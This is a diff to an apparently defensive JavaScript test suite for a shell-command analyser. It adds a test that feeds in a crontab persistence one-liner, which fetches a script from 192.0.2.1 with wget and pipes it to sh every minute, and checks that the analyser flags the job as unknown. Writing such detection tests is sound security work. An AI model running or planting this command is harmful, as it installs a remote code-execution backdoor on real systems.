@@ -126,6 +126,12 @@ test('reverse shells and keys', () => {
   assert.equal(lines(commands).at(-1), `echo ${key}`);
 });
 
+test('what is added to an unknown table of jobs', () => {
+  const { commands } = run('(crontab -l; echo "* * * * * wget -qO- http://192.0.2.1/x.sh | sh") | crontab -');
+  assert.equal(commands.at(-1)?.input?.text, '\ufffc* * * * * wget -qO- http://192.0.2.1/x.sh | sh\n');
+  assert.equal(commands.at(-1)?.input?.known, false);
+});
+
 test('what is certain, and what is not', () => {
   assert.deepEqual(seen('a; if b; then c; else d; fi; e && f'), ['a', 'b', '? c', '? d', 'e', '? f']);
   assert.deepEqual(seen('true && a; false && b; if [ -z "" ]; then c; else d; fi'), [
